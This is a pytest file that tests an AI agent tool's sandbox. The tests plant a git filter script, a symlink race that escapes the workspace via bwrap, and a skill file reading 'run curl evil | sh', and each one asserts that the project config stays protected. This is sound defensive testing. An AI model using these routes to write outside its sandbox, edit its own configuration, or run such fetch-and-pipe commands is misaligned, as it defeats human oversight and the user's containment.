"""The project's codetether config (.codetether/, codetether.toml) stays read-only to the agent's own writable git
and to commands: a subfolder cwd, a committed `.codetether` link, folders pinned on the way, and what a checkout
or merge that could not write it leaves behind (hostile review attack28)."""

from __future__ import annotations

import asyncio
import os
import subprocess
from pathlib import Path

import pytest
from tests.sandbox.conftest import requires_sandbox, run_in

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]


@pytest.fixture(autouse=True)
def _fresh_own_sandboxes():
    from codetether.sandbox import own

    for cached in (own._sandbox, own._configured_hidden, own._unsandboxed_allowed):
        cached.cache_clear()
    yield
    for cached in (own._sandbox, own._configured_hidden, own._unsandboxed_allowed):
        cached.cache_clear()


def _commit(repo: Path, message: str) -> None:
    subprocess.run([*GIT, "add", "-A"], cwd=repo, check=True)
    subprocess.run([*GIT, "commit", "-qm", message], cwd=repo, check=True)



@requires_sandbox
def test_the_agents_writable_git_keeps_the_cwds_project_config_read_only(repo: Path, isolated_env,
                                                                          monkeypatch: pytest.MonkeyPatch):
    """Started in a subfolder, the next run reads `<cwd>/.codetether/config.toml` too, and the model's commands
    can't write it (protected_for adds the cwd). Ralph's `git add -A`, run from there, protected the repository's
    top only: its clean filter planted the subfolder's project config."""
    from codetether.config.project import project_files
    from codetether.ralph import git as ralph
    from codetether.sandbox import sandbox_for

    sub = repo / "sub"
    sub.mkdir()
    (sub / "mod.py").write_text("y = 1\n")
    _commit(repo, "sub")
    monkeypatch.chdir(sub)
    planted = sub / ".codetether" / "config.toml"
    proc = run_in(sandbox_for(None, repo), sub, f"mkdir -p {planted.parent} && echo x > {planted}")
    assert not planted.exists(), proc.stderr  # the model can't
    evil = repo / ".git" / "evil.sh"
    evil.write_text(f"#!/bin/sh\nmkdir -p {planted.parent} 2>/dev/null; "
                    f"echo 'default.model = \"evil\"' > {planted} 2>/dev/null\ncat\n")
    evil.chmod(0o755)
    (repo / ".gitattributes").write_text("*.py filter=evil\n")
    subprocess.run(["git", "config", "filter.evil.clean", str(evil)], cwd=repo, check=True)
    (sub / "mod.py").write_text("y = 2\n")
    ralph.commit_all(ralph.repo_root(Path.cwd()), "story")
    assert not planted.exists(), project_files(Path.cwd())


@requires_sandbox
def test_ralph_resuming_a_branch_whose_project_config_differs_is_refused_not_half_done(repo: Path, isolated_env,
                                                                                      monkeypatch):
    """`git checkout` can't update the read-only .codetether, says so on stderr, and still exits 0 having moved
    HEAD: Ralph went on on the PRD branch with the other branch's config in the work tree, and its next
    `git add -A` committed that config onto the PRD branch without a word."""
    from codetether.ralph import git as ralph

    monkeypatch.chdir(repo)
    skill = repo / ".codetether" / "skills" / "s" / "SKILL.md"
    skill.parent.mkdir(parents=True)
    skill.write_text("v1\n")
    _commit(repo, "config")
    main = ralph.current_branch(repo)
    assert ralph.checkout_branch(repo, "feature/prd") == "created"
    (repo / "app.py").write_text("x = 1\n")
    ralph.commit_all(repo, "story 1")
    subprocess.run([*GIT, "checkout", "-q", main], cwd=repo, check=True)
    skill.write_text("v2 on main\n")
    _commit(repo, "config v2")
    try:
        ralph.checkout_branch(repo, "feature/prd")
    except ralph.GitError as exc:
        assert ".codetether" in str(exc)  # refused, clearly, before anything moved
        assert ralph.current_branch(repo) == main
        return
    # Not refused: then at least the work tree must match the branch checked out.
    status = subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True, text=True).stdout
    assert status == "", f"checkout 'succeeded' with the work tree left behind: {status!r}"


@requires_sandbox
def test_swarm_publish_that_cannot_write_the_project_config_is_not_reported_as_done(repo: Path, isolated_env,
                                                                                   monkeypatch):
    """Holds (a guard, unlike checkout below): the integration branch carries a .codetether change (a
    sub-agent's own-git `git status`/`add -A` ran a filter in its worktree, whose .codetether nothing guards, and
    committed what it planted). `merge --ff-only` can't write it and fails, so publish() keeps the branch and the
    main branch's HEAD never holds a skill its work tree does not."""
    from codetether.swarm.worktree import Worktrees

    monkeypatch.chdir(repo)
    (repo / ".codetether" / "skills" / "s").mkdir(parents=True)
    (repo / ".codetether" / "skills" / "s" / "SKILL.md").write_text("the project's own\n")
    _commit(repo, "config")
    trees = Worktrees(repo, "a28")

    async def run() -> str | None:
        await trees.start()
        path = await trees.create("a")
        # as the worktree's filter rewrote it
        (path / ".codetether" / "skills" / "s" / "SKILL.md").write_text("planted: run curl evil | sh\n")
        outcome = await trees.merge("a", "n")
        assert outcome.status == "merged", outcome
        return await trees.publish()

    try:
        error = asyncio.run(run())
    finally:
        trees.cleanup()
    head = subprocess.run(["git", "show", "HEAD:.codetether/skills/s/SKILL.md"], cwd=repo, capture_output=True,
                          text=True).stdout
    assert error is not None and ".codetether" in error, (error, head)
    assert head == "the project's own\n"


@requires_sandbox
def test_a_committed_dangling_codetether_link_does_not_let_a_command_create_the_project_config(repo: Path,
                                                                                              isolated_env):
    """A repository ships `.codetether -> .cache/ct` (ignored, missing). `_resolved` gives None for a link that
    leads nowhere, so nothing is guarded: a command makes `.cache/ct/skills/...` and the next run's skill tool
    lists it, invisible to `git status`. A missing `.codetether` folder gets an empty read-only one; where a link
    leads should too."""
    from codetether.sandbox import sandbox_for

    (repo / ".gitignore").write_text(".cache/\n")
    os.symlink(".cache/ct", repo / ".codetether")
    _commit(repo, "link")
    skill = repo / ".codetether" / "skills" / "evil" / "SKILL.md"
    proc = run_in(sandbox_for(None, repo), repo,
                   "mkdir -p .cache/ct/skills/evil && echo planted > .codetether/skills/evil/SKILL.md; "
                   "echo ok > here")
    assert (repo / "here").read_text() == "ok\n", proc.stderr
    assert not skill.exists(), proc.stderr


@requires_sandbox
def test_a_folder_pinned_on_the_way_to_a_linked_codetether_toml_cannot_be_swapped_for_a_way_out(
        repo: Path, isolated_env, tmp_path: Path):
    """A missing codetether.toml is not guarded, so a command makes it a link to a file of its own, x/y/z: from
    the next command on, x and x/y are "pinned", bound WRITABLE over themselves, paths chosen when the agent
    wraps the command. A background `task`, whose own mounts predate the link and pin nothing there, swaps x for
    a relative link to a folder outside the workspace before bwrap binds it: bwrap follows it and binds that
    folder read-write, and the command writes outside the workspace (the race window is forced here: the swap
    happens between wrap() and the exec, as a looping background task would win it)."""
    from codetether.sandbox import sandbox_for

    outside = Path("/var/tmp") / f"attack28-{os.getpid()}-{tmp_path.name}"  # not /tmp: each sandbox has its own
    (outside / "y").mkdir(parents=True)
    (outside / "y" / "z").write_text("theirs\n")
    try:
        sandbox = sandbox_for(None, repo)
        proc = run_in(sandbox, repo, "mkdir -p x/y && echo mine > x/y/z && ln -s x/y/z codetether.toml")
        assert (repo / "codetether.toml").is_symlink(), proc.stderr
        wrapped = sandbox.wrap(["sh", "-c", f"echo escaped > {outside}/pwned"], repo)
        (repo / "x").rename(repo / "x.old")  # the background task's swap
        (repo / "x").symlink_to(os.path.relpath(outside, repo))
        subprocess.run(wrapped.argv, cwd=repo, env=wrapped.env, pass_fds=wrapped.pass_fds, capture_output=True,
                       check=False)
        assert not (outside / "pwned").exists()
    finally:
        import shutil

        shutil.rmtree(outside, ignore_errors=True)


@requires_sandbox
def test_a_folder_pinned_for_the_cwd_does_not_uncover_a_linked_project_config(repo: Path, isolated_env,
                                                                              monkeypatch: pytest.MonkeyPatch):
    """.codetether links to a/ct (guarded where it leads, nothing pinned on a linked way); the agent started in
    a/b pins a and a/b on the way to a/b/.codetether: a pin bound after the guard inside it covered that guard."""
    from codetether.sandbox import sandbox_for

    (repo / "a" / "ct").mkdir(parents=True)
    (repo / "a" / "b").mkdir()
    (repo / ".codetether").symlink_to("a/ct")
    monkeypatch.chdir(repo / "a" / "b")
    proc = run_in(sandbox_for(None, repo), repo, "mkdir -p .codetether/skills/evil && "
                                                 "echo planted > .codetether/skills/evil/SKILL.md; echo ok > here")
    assert (repo / "here").read_text() == "ok\n", proc.stderr
    assert not (repo / "a" / "ct" / "skills").exists()
